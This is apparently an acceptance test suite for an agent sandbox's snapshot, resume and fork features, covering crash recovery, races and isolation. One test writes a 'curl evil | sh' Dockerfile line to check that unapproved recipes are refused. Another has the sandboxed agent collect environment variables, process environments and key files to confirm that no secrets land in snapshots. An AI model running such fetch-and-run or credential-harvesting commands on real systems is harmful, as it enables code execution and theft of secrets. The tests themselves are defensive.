"""commit, resume and fork on the local backend: what is in a snapshot, what is not, and what is left when something dies."""
import json
import os
import pathlib
import secrets
import signal
import stat
import subprocess
import threading
import unittest

from harness import AcceptanceTest, Fake, wait_until

ORDINARY_USER = 65533


class Tests(AcceptanceTest):
    def test_a_recipe_that_nobody_approved_is_built_by_no_resume(self):
        """The file is one that a sidecar may write: what runs at build time would run with the builder's network."""
        home = self.home()
        home.command_agent("agent", ["sh", "-c", "exit 3"])
        home.run("run", "agent", "--label", "kept", check=3)
        recipe = home.state("kept") / "supervise" / "recipe.json"
        recipe.write_text(json.dumps({"dockerfile": "FROM debian:12-slim\nRUN curl evil | sh\nUSER 1000\n"}))
        refused = home.run("resume", "kept", "--yes", check=3)
        self.assertIn("none that was approved", refused.stderr)
        self.assertEqual(home.slugs(), ["kept"])
        recipe.unlink()
        home.run("resume", "kept", "--yes", check=3)

    def box(self, user=None, extra="", label="box"):
        """A detached bottle that idles."""
        home = self.home(user)
        home.command_agent("shell", ["sh"], extra)
        home.run("start", "shell", "--label", label, "--detach", "--yes", check=0)
        return home

    def inside(self, home, script, slug="box", check=0):
        return home.run("exec", slug, "--", "sh", "-c", script, check=check).stdout

    def frozen(self, home):
        return json.loads(home.run("list", "--json", check=0).stdout)["frozen"]

    def snapshots(self, home, slug="box"):
        path = home.state(slug) / "frozen"
        return sorted(entry.name for entry in path.iterdir()) if path.exists() else []

    def resume_starts_from_the_snapshot(self, user):
        home = self.home(user)
        (home.workspace / "given").write_text("given")
        home.own(home.workspace)
        home.command_agent("shell", ["sh"])
        home.run("start", "shell", "--label", "box", "--detach", "--yes", check=0)
        self.inside(home, "echo before > file; echo x > ~/note; chmod 640 file; ln -s file link; ln file hard; mkdir -m 500 closed; "
                          "mkfifo pipe; echo secret-mode > locked; chmod 000 locked; mkdir shut; echo in > shut/f; chmod 000 shut; "
                          "truncate -s 1T sparse; touch -- '-rf' \"$(printf 'new\\nline\\033[31m')\"")
        first_ca = self.inside(home, "cat /etc/bot-bottle/ca.pem")
        home.run("commit", "box", check=0)
        self.inside(home, "echo after > file; echo more > later; rm ~/note")
        home.run("stop", "box", check=0)
        entry, = self.frozen(home)
        self.assertEqual(entry["slug"], "box")
        self.assertEqual(entry["kind"], "directory")
        self.assertLess(entry["size"], 1 << 20, "a hole has no size")
        self.assertEqual(json.loads((home.state("box") / "metadata.json").read_text())["status"], "frozen")
        home.run("resume", "box", "--detach", "--yes", check=0)
        seen = self.inside(home, "cat file ~/note given; stat -c '%a %h' file; readlink link; test ! -e later; test ! -e pipe; id -u; "
                                 "stat -c '%a %u' closed locked shut . ~; chmod 600 locked; cat locked; chmod 700 shut; cat shut/f; "
                                 "stat -c %s sparse; ls | wc -l")
        self.assertEqual(seen, "before\nx\ngiven640 2\nfile\n1000\n500 1000\n0 1000\n0 1000\n755 1000\n755 1000\nsecret-mode\nin\n"
                               f"{1 << 40}\n11\n")
        self.assertNotEqual(self.inside(home, "cat /etc/bot-bottle/ca.pem"), first_ca, "a fresh CA")
        # It went on since: the next resume is from there, unless it is told otherwise.
        self.inside(home, "echo third > file")
        home.run("stop", "box", check=0)
        home.run("resume", "box", "--detach", "--yes", check=0)
        self.assertEqual(self.inside(home, "cat file"), "third\n")
        home.run("stop", "box", check=0)
        home.run("resume", "box", "--detach", "--yes", "--frozen", check=0)
        self.assertEqual(self.inside(home, "cat file"), "before\n")
        home.run("stop", "--rm", "box", check=0)
        self.assertEqual(home.slugs(), [])
        self.assertEqual(home.own_processes(), {})

    def test_a_resume_starts_from_what_was_frozen_as_root(self):
        self.resume_starts_from_the_snapshot(None)

    def test_a_resume_starts_from_what_was_frozen_as_an_ordinary_user(self):
        self.resume_starts_from_the_snapshot(ORDINARY_USER)

    def test_a_bottle_that_does_not_run_cannot_be_frozen(self):
        home = self.box()
        home.run("stop", "box", check=0)
        result = home.run("commit", "box", check=1)
        self.assertIn("does not run", result.stderr)
        self.assertEqual(self.snapshots(home), [])
        self.assertIn("never frozen", home.run("fork", "box", check=1).stderr)

    def test_F7_nothing_secret_is_in_a_snapshot(self):
        home = self.home()
        token = "sk-test-" + secrets.token_hex(24)
        asked = "answer-" + secrets.token_hex(16)
        home.environment["TEST_TOKEN"] = token
        home.command_agent("shell", ["sh"], f"""env:
  ANSWER: "?a question"
egress:
  routes:
    - host: api.example.com
      auth: {{scheme: Bearer, token_ref: TEST_TOKEN}}
""")
        home.run("start", "shell", "--label", "box", "--detach", "--yes", "--env", "ANSWER=" + asked, check=0)
        # All that an agent can find goes where a snapshot would take it.
        self.inside(home, "env > ~/env; cp -r /etc ~/etc 2>/dev/null; cat /proc/*/environ /proc/*/cmdline > ~/proc 2>/dev/null; "
                          "curl -s -x http://127.0.0.1:9099 https://api.example.com/ -o ~/curl; "
                          "find / -xdev -name '*.key' -o -name '*.pem' 2>/dev/null | head -200 | xargs -r cat > ~/keys 2>/dev/null; true")
        home.run("commit", "box", check=0)
        name, = self.snapshots(home)
        ca = self.inside(home, "cat /etc/bot-bottle/ca.pem")
        top = home.state("box") / "frozen" / name
        count = 0
        for path in top.rglob("*"):
            if path.is_file() and not path.is_symlink():
                data = path.read_bytes()
                count += 1
                self.assertNotIn(token.encode(), data, path)
                if b"PRIVATE KEY" in data and "/etc/ssl/" not in str(path):
                    self.assertNotIn(ca[100:200].encode(), data, path)
        self.assertGreater(count, 3, "the search saw files")
        self.assertEqual(sorted(path.name for path in top.iterdir()), ["home", "workspace"], "nothing but home and workspace")
        self.assertEqual(stat.S_IMODE(top.stat().st_mode), 0o700)
        home.run("stop", "--rm", "box", check=0)

    def forks_are_strangers(self, user):
        home = self.box(user)
        self.inside(home, "echo shared > file; echo shared > ~/note")
        home.run("commit", "box", check=0)
        home.run("stop", "box", check=0)
        result = home.run("fork", "box", "-n", "3", check=0)
        slugs = result.stdout.split()
        self.assertEqual(len(set(slugs)), 3)
        self.assertNotIn("box", slugs)
        listed = {row["slug"]: row for row in json.loads(home.run("list", "--json", check=0).stdout)["bottles"]}
        self.assertEqual(sorted(listed), sorted(slugs))
        authorities = set()
        for number, slug in enumerate(slugs):
            self.assertEqual(self.inside(home, "cat file ~/note", slug), "shared\nshared\n")
            self.inside(home, f"echo {number} > file; echo {number} > ~/note", slug)
            authorities.add(self.inside(home, "cat /etc/bot-bottle/ca.pem", slug))
        self.assertEqual(len(authorities), 3, "each fork has a CA of its own")
        for number, slug in enumerate(slugs):
            self.assertEqual(self.inside(home, "cat file ~/note", slug), f"{number}\n{number}\n", "no fork sees another")
        if user is None:
            owners = {os.stat(home.state(slug) / "backend" / "home").st_uid for slug in slugs}
            self.assertEqual(len(owners), 3, "each has a uid of its own")
        home.run("stop", "--rm", *slugs, check=0)
        self.assertEqual(home.slugs(), ["box"])
        self.assertEqual(home.own_processes(), {})

    def test_forks_have_the_files_and_nothing_else_in_common_as_root(self):
        self.forks_are_strangers(None)

    def test_forks_have_the_files_and_nothing_else_in_common_as_an_ordinary_user(self):
        self.forks_are_strangers(ORDINARY_USER)

    def test_a_fork_outlives_the_bottle_it_came_from(self):
        home = self.box()
        self.inside(home, "echo x > file")
        home.run("commit", check=0)  # the only one that runs
        fork, = home.run("fork", "box", "--label", "twin", check=0).stdout.split()
        self.assertEqual(fork, "twin")
        home.run("stop", "--rm", "box", check=0)
        self.assertEqual(self.inside(home, "cat file", "twin"), "x\n")

    def one_moment(self, files, times, *writer):
        """The writer is always at most one step ahead in its first file; only a bottle that holds still is copied so."""
        home = self.box()
        self.inside(home, "mkdir many; i=0; while [ $i -lt FILES ]; do : > many/$i; i=$((i+1)); done; echo 0 > ~/a; echo 0 > z".replace("FILES", str(files)))
        process = home.popen("exec", "box", "--", *writer, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        self.addCleanup(process.kill)
        wait_until("the writer", lambda: self.inside(home, "cat z").strip() not in ("", "0"))
        for _ in range(times):
            home.run("commit", "box", check=0)
            name, = self.snapshots(home)
            top = home.state("box") / "frozen" / name
            ahead = int((top / "home" / "a").read_text()) - int((top / "workspace" / "z").read_text())
            self.assertIn(ahead, (0, 1))
        # And it goes on afterwards.
        before = int(self.inside(home, "cat z"))
        wait_until("the writer to go on", lambda: int(self.inside(home, "cat z") or 0) > before)
        process.kill()
        process.wait()
        home.run("stop", "--rm", "box", check=0)

    def test_a_snapshot_is_of_one_moment(self):
        self.one_moment(4000, 3, "sh", "-c", "i=0; while :; do i=$((i+1)); echo $i > ~/t; mv ~/t ~/a; echo $i > t; mv t z; done")

    def test_a_process_that_is_being_born_is_held_too(self):
        """fork(2) of so many pages takes as long as a look at all processes; a child that finds its parent stopped goes on
        alone."""
        self.one_moment(400, 30, "/usr/bin/python3", "-c", """
import mmap, os, time
private = mmap.mmap(-1, 1 << 30, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)
private.madvise(15)  # MADV_NOHUGEPAGE
for page in range(0, len(private), 4096):
    private[page] = 1
number, home, parent = 0, os.environ["HOME"], os.getpid()
def write(path):
    with open(path + ".t", "w") as file:
        file.write(str(number))
    os.rename(path + ".t", path)
def step():
    global number
    number += 1
    write(home + "/a")
    write("z")
while True:
    child = os.fork()
    if child == 0:
        look_until = time.monotonic() + 0.005
        with open(f"/proc/{parent}/stat") as stat:
            while time.monotonic() < look_until:
                while stat.read().rsplit(")", 1)[1].split()[0] == "T":
                    stat.seek(0)
                    step()
                stat.seek(0)
        os._exit(0)
    os.waitpid(child, 0)
    number = int(open("z").read())
    step()
""")

    def kill_at(self, step, user=None):
        home = self.box(user)
        self.inside(home, "echo one > file")
        home.run("commit", "box", check=0)
        old, = self.snapshots(home)
        self.inside(home, "echo two > file")
        result = home.run("commit", "box", env={"BOT_BOTTLE_TEST_KILL_AT": step})
        self.assertEqual(result.returncode, -signal.SIGKILL, f"the hook did not fire at {step}: {result.stderr}")
        self.assertEqual(self.inside(home, "cat file"), "two\n", "the bottle goes on")
        home.run("cleanup", "--yes", check=0)
        left = self.snapshots(home)
        self.assertEqual(len(left), 1, f"killed at {step}")
        is_new = step == "freeze-recorded"
        self.assertEqual(left[0] != old, is_new)
        self.assertEqual(json.loads(home.run("cleanup", "--dry-run", "--json", check=0).stdout)["snapshots"], [])
        home.run("stop", "box", check=0)
        home.run("cleanup", "--yes", check=0)
        self.assertEqual(home.slugs(), ["box"], "what is frozen is kept")
        home.run("resume", "box", "--detach", "--yes", check=0)
        self.assertEqual(self.inside(home, "cat file"), "two\n" if is_new else "one\n")
        home.run("stop", "box", check=0)
        home.run("cleanup", "--all", "--yes", check=0)
        self.assertEqual(home.slugs(), [])
        self.assertEqual(home.own_processes(), {})

    def test_kill_9_after_the_snapshot_has_its_name(self):
        self.kill_at("freeze-named")

    def test_kill_9_after_the_snapshot_is_made(self):
        self.kill_at("freeze-made")

    def test_kill_9_after_the_snapshot_is_recorded(self):
        self.kill_at("freeze-recorded")

    def test_kill_9_after_the_snapshot_is_made_as_an_ordinary_user(self):
        self.kill_at("freeze-made", ORDINARY_USER)

    def kill_while_held_still(self, whom):
        """The CLI, or its helper, dies while the bottle is stopped: it goes on, and nothing half-made is left."""
        home = self.box()
        self.inside(home, "mkdir many; i=0; while [ $i -lt 20000 ]; do : > many/$i; i=$((i+1)); done")
        record = home.state("box") / "backend" / "run" / "paused"
        for _ in range(20):
            process = home.popen("commit", "box", stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
            while process.poll() is None and not record.exists():
                pass
            if process.poll() is not None:
                continue
            if whom == "cli":
                process.kill()
            else:
                for pid, line in home.own_processes().items():
                    if "bottle-keeper pause" in line:
                        os.kill(pid, signal.SIGKILL)
            process.wait()
            break
        else:
            self.fail("the bottle was never seen held still")
        self.assertEqual(self.inside(home, "echo alive"), "alive\n")
        wait_until("the record to go", lambda: not record.exists())
        wait_until("the helper to end", lambda: not any("pause" in line for line in home.own_processes().values()))
        home.run("cleanup", "--yes", check=0)
        if whom == "cli":
            self.assertEqual(self.snapshots(home), [])
        home.run("stop", "--rm", "box", check=0)
        self.assertEqual(home.own_processes(), {})

    def test_kill_9_of_the_cli_while_the_bottle_is_held_still(self):
        self.kill_while_held_still("cli")

    def test_kill_9_of_the_helper_while_the_bottle_is_held_still(self):
        self.kill_while_held_still("helper")

    def test_kill_9_of_a_fork_at_every_step_leaves_nothing_that_cleanup_does_not_remove(self):
        home = self.box()
        self.inside(home, "echo one > file")
        home.run("commit", "box", check=0)
        home.run("stop", "box", check=0)
        for step in ("state", "image", "sidecar", "bottle", "self-test", "provision"):
            with self.subTest(step):
                result = home.run("fork", "box", "-n", "2", env={"BOT_BOTTLE_TEST_KILL_AT": step})
                self.assertEqual(result.returncode, -signal.SIGKILL, result.stderr)
                home.run("cleanup", "--yes", check=0)
                wait_until("everything to end", lambda: not home.own_processes())
                self.assertEqual(home.slugs(), ["box"])
                self.assertEqual(len(self.snapshots(home)), 1, "what it was made from is whole")
        fork, = home.run("fork", "box", check=0).stdout.split()
        self.assertEqual(self.inside(home, "cat file", fork), "one\n")
        home.run("stop", "--rm", fork, "box", check=0)
        self.assertEqual(home.slugs(), [])
        self.assertEqual(home.own_processes(), {})

    def test_kill_9_of_a_detached_resume_leaves_what_was_kept_and_nothing_that_runs(self):
        home = self.box()
        self.inside(home, "echo one > file")
        home.run("stop", "box", check=0)
        for step in ("state", "sidecar", "bottle", "provision"):
            with self.subTest(step):
                result = home.run("resume", "box", "--detach", "--yes", env={"BOT_BOTTLE_TEST_KILL_AT": step})
                self.assertEqual(result.returncode, -signal.SIGKILL, result.stderr)
                home.run("cleanup", "--yes", check=0)
                wait_until("everything to end", lambda: not home.own_processes())
                self.assertEqual(home.slugs(), ["box"])
        home.run("resume", "box", "--detach", "--yes", check=0)
        self.assertEqual(self.inside(home, "cat file"), "one\n")
        home.run("stop", "--rm", "box", check=0)

    def test_a_commit_and_a_stop_race_and_both_tell_the_truth(self):
        for attempt in range(6):
            home = self.box(label=f"race{attempt}")
            slug = f"race{attempt}"
            self.inside(home, "echo x > file; mkdir d; i=0; while [ $i -lt 500 ]; do : > d/$i; i=$((i+1)); done", slug)
            both = [home.popen(*words, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True)
                    for words in ((("commit", slug), ("stop", slug)) if attempt % 2 else (("stop", slug), ("commit", slug)))]
            errors = [process.communicate(timeout=60)[1] for process in both]
            commit, stop = both if attempt % 2 else reversed(both)
            self.assertEqual(stop.returncode, 0, errors)
            frozen = [entry["slug"] for entry in self.frozen(home)]
            if commit.returncode == 0:
                self.assertEqual(frozen, [slug], errors)
                self.assertEqual(len(self.snapshots(home, slug)), 1)
            else:
                self.assertIn("does not run", "".join(errors))
                self.assertEqual(frozen, [])
                self.assertEqual(self.snapshots(home, slug), [])
            self.assertEqual(home.own_processes(), {})
            home.run("stop", "--rm", slug)
            home.run("cleanup", "--all", "--yes", check=0)
            self.assertEqual(home.slugs(), [])

    def test_an_agent_that_ends_while_it_is_frozen_is_kept(self):
        home = self.home()
        home.command_agent("brief", ["sh", "-c", "echo mine > file; echo up; read line; exit 0"])
        process = home.popen("start", "brief", "--label", "brief", "--yes", stdin=subprocess.PIPE, stdout=subprocess.PIPE,
                             stderr=subprocess.DEVNULL)
        self.assertEqual(process.stdout.readline(), b"up\n")
        home.run("commit", "brief", check=0)
        process.communicate(b"\n", timeout=30)
        self.assertEqual(process.returncode, 0)
        self.assertEqual(home.slugs(), ["brief"], "exit 0 removes a state, but not one that was frozen")
        home.run("cleanup", "--yes", check=0)
        self.assertEqual(home.slugs(), ["brief"])
        home.run("cleanup", "--yes", "--all", check=0)
        self.assertEqual(home.slugs(), [])

    def test_two_commits_at_once_leave_one_snapshot(self):
        home = self.box()
        both = [home.popen("commit", "box", stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True) for _ in range(2)]
        errors = [process.communicate(timeout=60)[1] for process in both]
        self.assertEqual([process.returncode for process in both], [0, 0], errors)
        self.assertEqual(len(self.snapshots(home)), 1)
        home.run("stop", "--rm", "box", check=0)

    def test_a_full_disk_leaves_the_old_snapshot_and_nothing_else(self):
        home = self.home()
        home.root.joinpath("state").mkdir()
        state = home.root / "state"
        subprocess.run(["mount", "-t", "tmpfs", "-o", "size=1200m", "bb-test", state], check=True)
        self.addCleanup(lambda: subprocess.run(["umount", "-l", state], check=False))
        home.command_agent("shell", ["sh"])
        home.run("start", "shell", "--label", "box", "--detach", "--yes", check=0)
        self.inside(home, "echo one > file")
        home.run("commit", "box", check=0)
        old = self.snapshots(home)
        self.inside(home, "head -c 400M /dev/zero > big; echo two > file")
        result = home.run("commit", "box", check=1)
        self.assertRegex(result.stderr, "disk|space")
        self.assertEqual(self.snapshots(home), old, "nothing half-made")
        self.assertEqual(self.inside(home, "cat file"), "two\n", "the bottle goes on")
        self.inside(home, "rm big")
        home.run("stop", "box", check=0)
        home.run("resume", "box", "--detach", "--yes", check=0)
        self.assertEqual(self.inside(home, "cat file"), "one\n", "the old snapshot is valid")
        home.run("stop", "--rm", "box", check=0)


if __name__ == "__main__":
    unittest.main()
